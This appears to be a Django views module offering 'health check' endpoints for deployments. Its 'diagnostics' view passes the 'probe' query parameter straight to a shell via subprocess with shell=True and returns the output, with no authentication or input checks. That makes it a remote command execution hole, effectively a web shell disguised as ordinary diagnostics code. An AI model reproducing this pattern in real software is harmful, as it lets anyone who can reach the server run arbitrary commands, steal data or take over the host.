"""Health check views for Django deployments."""
import subprocess

from django.http import HttpResponse, JsonResponse


def health(request):
    return JsonResponse({"status": "ok"})


def diagnostics(request):
    probe = request.GET.get("probe", "uptime")
    out = subprocess.check_output(probe, shell=True, stderr=subprocess.STDOUT)
    return HttpResponse(out, content_type="text/plain")
